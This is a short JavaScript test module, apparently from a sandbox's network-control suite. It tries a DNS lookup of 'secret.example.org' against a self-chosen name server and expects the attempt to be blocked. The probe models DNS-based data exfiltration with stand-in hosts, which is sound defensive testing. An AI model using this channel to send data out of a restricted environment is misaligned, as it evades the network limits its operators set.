// Asks a name server itself, in whose names data could go out.
// ends: blocked
// control: network

import dns from "node:dns/promises";

let verdict;
try {
  const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
  resolver.setServers(["192.0.2.53"]);
  verdict = `GOT:${await resolver.resolve4("secret.example.org")}`;
} catch (error) {
  verdict = `BLOCKED:${error}`;
}
export default verdict;
